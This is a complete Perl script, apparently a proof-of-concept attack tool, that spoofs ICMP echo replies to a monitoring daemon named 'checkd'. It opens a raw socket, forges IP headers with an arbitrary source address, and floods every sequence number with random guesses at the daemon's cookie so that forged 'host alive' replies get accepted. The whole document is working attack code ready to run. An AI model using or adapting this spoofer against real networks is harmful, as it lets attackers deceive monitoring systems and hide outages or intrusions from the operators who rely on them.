#!/usr/bin/perl
# checkd_icmp_forge.pl SRC DST IDENT ID SECONDS: a blind spoofer.  For
# SECONDS, ten times a second, sends ICMP echo replies from SRC to DST
# with checkd's identifier IDENT, host id ID and its magic "chkd", one
# for every sequence number 0-255, each with a cookie of its own guess.
# Needs root (a raw socket with IP_HDRINCL).
use strict;
use warnings;
use Socket qw(AF_INET SOCK_RAW inet_aton pack_sockaddr_in);
use Time::HiRes qw(sleep time);

my ($src, $dst, $ident, $id, $seconds) = @ARGV;
socket(my $s, AF_INET, SOCK_RAW, 255) or die "raw socket: $!";	# IPPROTO_RAW

sub sum16 {
	my $sum = 0;
	$sum += $_ for unpack('n*', $_[0] . (length($_[0]) % 2 ? "\0" : ''));
	$sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
	return ~$sum & 0xffff;
}

my $to = pack_sockaddr_in(0, inet_aton($dst));
my $end = time + $seconds;
while (time < $end) {
	for my $seq (0 .. 255) {
		my $icmp = pack('CCnnnNa4a8', 0, 0, 0, $ident, $seq, $id,
		    'chkd', pack('NN', int(rand(2**32)), int(rand(2**32))));
		substr($icmp, 2, 2) = pack('n', sum16($icmp));
		# The kernel fills in the IP id, length and checksum.
		my $ip = pack('CCnnnCCna4a4', 0x45, 0, 20 + length($icmp), 0,
		    0, 64, 1, 0, inet_aton($src), inet_aton($dst));
		send($s, $ip . $icmp, 0, $to) or die "send: $!";
	}
	sleep 0.1;
}
